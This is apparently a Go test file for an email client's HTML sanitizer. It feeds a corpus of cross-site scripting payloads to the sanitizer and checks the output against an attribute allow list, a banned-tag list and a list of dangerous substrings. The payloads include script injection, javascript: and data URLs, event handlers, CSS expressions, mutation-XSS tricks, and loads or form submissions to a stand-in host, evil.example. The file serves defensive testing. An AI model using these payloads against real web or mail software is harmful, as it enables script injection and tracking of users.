package mail

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// The sanitizer corpus: whatever a sender writes, nothing that can run,
// load or submit anything survives sanitize, and the markup it returns
// parses to elements and attributes of an allow list.
var hostileHTML = []string{
	`<script>alert(1)</script>hello`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" JaVaScRiPt:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<img src=x onerror=alert(1)>`,
	`<body onload=alert(1)>`,
	`<div style="width: expression(alert(1))">css</div>`,
	`<div style="background:url(javascript:alert(1))">css</div>`,
	`<style>body{background:url("http://evil.example/t.gif")} *{x:expression(alert(1))}</style>text`,
	`<link rel=stylesheet href=http://evil.example/s.css>`,
	`<img src="http://tracker.example/pixel.gif">`,
	`<svg><script>alert(1)</script><circle onload=alert(1)/></svg>`,
	`<svg/onload=alert(1)>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<iframe src="http://evil.example"></iframe>`,
	`<object data="http://evil.example/x.swf"></object><embed src=x.swf>`,
	`<form action="http://evil.example"><input name=p><button>go</button></form>`,
	`<meta http-equiv="refresh" content="0;url=http://evil.example">`,
	`<base href="http://evil.example/">`,
	`<div <script>alert(1)</script>`,
	`<<img src=x onerror=alert(1)//<`,
	`<p title="</p><script>alert(1)</script>">x`,
	`<!--<script>alert(1)</script>-->`,
	`<a href="http://ok.example" onclick="alert(1)" target="_self">ok</a>`,
	`<table background="javascript:alert(1)"><tr><td>cell`,
	"<img src=\"jav\x00ascript:alert(1)\">",
}

var allowedAttrs = map[string]bool{"href": true, "src": true, "alt": true, "title": true, "rel": true, "target": true,
	"align": true, "valign": true, "width": true, "height": true, "bgcolor": true, "border": true, "cellpadding": true,
	"cellspacing": true, "color": true, "face": true, "size": true, "colspan": true, "rowspan": true, "dir": true,
	"lang": true, "cite": true, "datetime": true, "open": true, "start": true, "type": true, "span": true, "summary": true,
	"abbr": true, "scope": true, "headers": true, "axis": true, "char": true, "charoff": true, "nowrap": true, "hspace": true,
	"vspace": true, "name": true, "id": true, "reversed": true, "value": true, "hreflang": true, "high": true, "low": true,
	"max": true, "min": true, "optimum": true, "longdesc": true, "usemap": true, "ismap": true, "clear": true, "coords": true,
	"shape": true, "label": true, "controls": true, "loop": true, "muted": true, "preload": true, "poster": true, "srcset": true,
	"sizes": true, "class": true}

var bannedTags = []string{"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button",
	"meta", "base", "link", "body", "html", "head"}

func TestSanitizerCorpusLeavesNothingActive(t *testing.T) {
	for _, in := range hostileHTML {
		out := sanitize(in)
		z := html.NewTokenizer(strings.NewReader(out))
		for {
			tt := z.Next()
			if tt == html.ErrorToken {
				break
			}
			if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
				continue
			}
			tok := z.Token()
			for _, b := range bannedTags {
				if tok.Data == b {
					t.Errorf("%q → %q keeps <%s>", in, out, b)
				}
			}
			for _, a := range tok.Attr {
				if !allowedAttrs[a.Key] || strings.HasPrefix(a.Key, "on") {
					t.Errorf("%q → %q keeps attribute %s", in, out, a.Key)
				}
				v := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
				if (a.Key == "href" || a.Key == "src") && !(strings.HasPrefix(v, "http://") || strings.HasPrefix(v, "https://") ||
					strings.HasPrefix(v, "mailto:") || strings.HasPrefix(v, "data:image/") || !strings.Contains(v, ":")) {
					t.Errorf("%q → %q keeps %s=%q", in, out, a.Key, a.Val)
				}
				if a.Key == "target" && a.Val != "_blank" {
					t.Errorf("%q → %q keeps target=%q", in, out, a.Val)
				}
			}
		}
		low := strings.ToLower(out)
		for _, bad := range []string{"javascript:", "vbscript:", "expression(", "onerror", "onload", "onclick", "<script", "data:text/html"} {
			if strings.Contains(low, bad) {
				t.Errorf("%q → %q still contains %q", in, out, bad)
			}
		}
	}
	// Text and ordinary formatting survive; links open outside the reader.
	if got := sanitize(`<p>Hello <b>there</b> <a href="https://ok.example/">link</a></p>`); !strings.Contains(got, "<b>there</b>") ||
		!strings.Contains(got, `target="_blank"`) || !strings.Contains(got, "noreferrer") {
		t.Errorf("benign HTML became %q", got)
	}
	if !hasRemoteImages(sanitize(`<img src="http://tracker.example/pixel.gif">`)) || hasRemoteImages(sanitize(`<img src="data:image/png;base64,iVBORw0KGgo=">`)) {
		t.Error("remote image detection is wrong")
	}
}
